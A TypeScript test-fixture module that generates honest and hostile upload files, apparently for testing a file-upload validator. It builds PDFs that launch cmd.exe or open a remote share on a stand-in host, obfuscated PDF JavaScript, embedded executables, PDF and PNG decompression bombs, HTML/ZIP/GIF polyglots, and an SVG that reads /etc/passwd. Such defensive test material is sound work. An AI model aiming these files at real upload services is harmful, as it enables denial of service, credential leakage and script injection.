/** Files as strangers send them, honest and hostile, made on the spot: nothing dangerous lies in the repository. */
import { PDFDocument, PDFName, PDFString, StandardFonts } from "@cantoo/pdf-lib";
import { deflateSync } from "node:zlib";
import sharp from "sharp";

const text = (words: string) => Buffer.from(words, "latin1");

export async function photo(
  format: "jpeg" | "png" | "gif" = "jpeg",
  { width = 800, height = 600 } = {},
): Promise<Buffer> {
  const picture = sharp({ create: { width, height, channels: 3, background: "#3f7f5f" } });
  return picture.toFormat(format).toBuffer();
}

/** A photo as a phone takes it: on its side, with the place it was taken. */
export async function photoWithPlace(): Promise<Buffer> {
  return sharp({ create: { width: 40, height: 20, channels: 3, background: "#3f7f5f" } })
    .withExif({ IFD0: { Copyright: "Ada at home" }, IFD3: { GPSLatitudeRef: "N", GPSLatitude: "51/1 30/1 0/1" } })
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer();
}

/** Two frames: red, then blue. */
export async function animatedGif(): Promise<Buffer> {
  const frame = (background: string) =>
    sharp({ create: { width: 30, height: 20, channels: 3, background } })
      .png()
      .toBuffer();
  return sharp(await Promise.all([frame("#ff0000"), frame("#0000ff")]), { join: { animated: true } })
    .gif()
    .toBuffer();
}

/** A BMP of 24 bits: top row red, bottom row blue, two pixels wide. */
export function bitmap({ compression = 0, width = 2, height = 2 } = {}): Buffer {
  const pixels = Buffer.from([255, 0, 0, 255, 0, 0, 0, 0, /* upper */ 0, 0, 255, 0, 0, 255, 0, 0]);
  const file = Buffer.alloc(54 + pixels.length);
  file.write("BM", "latin1");
  file.writeUInt32LE(file.length, 2);
  file.writeUInt32LE(54, 10);
  file.writeUInt32LE(40, 14);
  file.writeInt32LE(width, 18);
  file.writeInt32LE(height, 22);
  file.writeUInt16LE(1, 26);
  file.writeUInt16LE(24, 28);
  file.writeUInt32LE(compression, 30);
  pixels.copy(file, 54);
  return file;
}

export async function pdf(change: (document: PDFDocument) => void | Promise<void> = () => {}): Promise<Buffer> {
  const document = await PDFDocument.create();
  const page = document.addPage();
  page.drawText("Payslip, November 2026", { font: await document.embedFont(StandardFonts.Helvetica), x: 40, y: 700 });
  await change(document);
  return Buffer.from(await document.save());
}

export const scriptedPdf = () => pdf((document) => document.addJavaScript("run", "app.alert('x')"));

/** The script's name spelled with escapes, in the action of opening. */
export const escapedScriptPdf = async () =>
  text((await openingPdf("Aaaa")).toString("latin1").replace("/Aaaa", "/#4aavaScript"));

const openingPdf = (action: string, more: Record<string, unknown> = {}) =>
  pdf((document) => {
    const { context, catalog } = document;
    catalog.set(PDFName.of("OpenAction"), context.obj({ S: PDFName.of(action), ...more } as never));
  });
const plainly = async (document: Promise<Buffer>) => {
  // Without object streams, so that tests can change single words.
  const loaded = await PDFDocument.load(await document);
  return Buffer.from(await loaded.save({ useObjectStreams: false }));
};

export const launchingPdf = () => openingPdf("Launch", { F: PDFString.of("cmd.exe") });
export const remotePdf = () => openingPdf("GoToR", { F: PDFString.of("\\\\\\\\evil.example\\\\share") });
export const linkingPdf = () => openingPdf("URI", { URI: PDFString.of("https://payroll.example/") });
export const attachingPdf = () =>
  pdf((document) => document.attach(Buffer.from("MZ"), "run.exe", { mimeType: "application/octet-stream" }));
export const longPdf = (pages: number) =>
  pdf((document) => {
    for (let page = 1; page < pages; page++) document.addPage();
  });

/** Says that it is encrypted, as locked files do. */
export const lockedPdf = async () => {
  const plain = (await plainly(pdf())).toString("latin1");
  return text(
    plain.replace(
      /trailer\s*<</,
      `trailer\n<< /Encrypt << /Filter /Standard /V 1 /R 2 /O (${"o".repeat(32)}) /U (${"u".repeat(32)}) /P -4 >> /ID [<00><00>]`,
    ),
  );
};

/** A PDF that is a web page and an archive at the same time: before the objects, and after the end. */
export const polyglotPdf = async () => {
  const plain = await plainly(pdf());
  const head = plain.subarray(0, plain.indexOf("\n") + 1);
  return Buffer.concat([
    head,
    text("%<script>alert('polyglot-in-front')</script>\n"),
    plain.subarray(head.length),
    text("\nPK\u0003\u0004 polyglot-behind <html><script>alert(1)</script>"),
  ]);
};

/** Decompresses to `megabytes` of nothing inside a stream that readers have to unpack. */
export function pdfBomb(megabytes: number): Buffer {
  const packed = deflateSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 9 });
  return Buffer.concat([
    text(
      `%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n3 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`,
    ),
    packed,
    text("\nendstream\nendobj\ntrailer\n<</Root 1 0 R/Size 4>>\nstartxref\n0\n%%EOF"),
  ]);
}

/** 20,000 by 20,000 pixels in a few hundred bytes: what a decoder would make room for is 1.2 GB. */
export function pixelBomb(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([text(type), data]);
    const out = Buffer.alloc(8 + data.length + 4);
    out.writeUInt32BE(data.length);
    body.copy(out, 4);
    out.writeUInt32BE(crc32(body), 8 + data.length);
    return out;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(20_000, 0);
  header.writeUInt32BE(20_000, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(Buffer.alloc(60_001))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

export const svg = () =>
  text(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="file:///etc/passwd"/></svg>`);
export const html = () => text("<!doctype html><script>alert(1)</script>");
/** Begins as a GIF and is a script to whoever takes it for one. */
export const scriptGif = () => text("GIF89a/*" + "\u0001\u0000".repeat(10) + "*/=1;alert(1)//");
/** A whole photo with a web page behind it. */
export const photoPolyglot = async () => Buffer.concat([await photo(), html()]);

export interface UploadPart {
  name?: string;
  fileName: string;
  bytes: Uint8Array;
  type?: string;
}

/** A post of a form with files, written by hand so that names can be anything. */
export function multipart(parts: UploadPart[], fields: Record<string, string> = {}) {
  const boundary = "----farthing-test-boundary";
  const chunks: Buffer[] = [];
  for (const [name, value] of Object.entries(fields))
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`));
  for (const { name = "attachment", fileName, bytes, type = "application/octet-stream" } of parts)
    chunks.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${name}"; filename="${fileName}"\r\nContent-Type: ${type}\r\n\r\n`,
      ),
      Buffer.from(bytes),
      Buffer.from("\r\n"),
    );
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  const body = Buffer.concat(chunks);
  return {
    body,
    headers: { "Content-Type": `multipart/form-data; boundary=${boundary}`, "Content-Length": String(body.length) },
  };
}
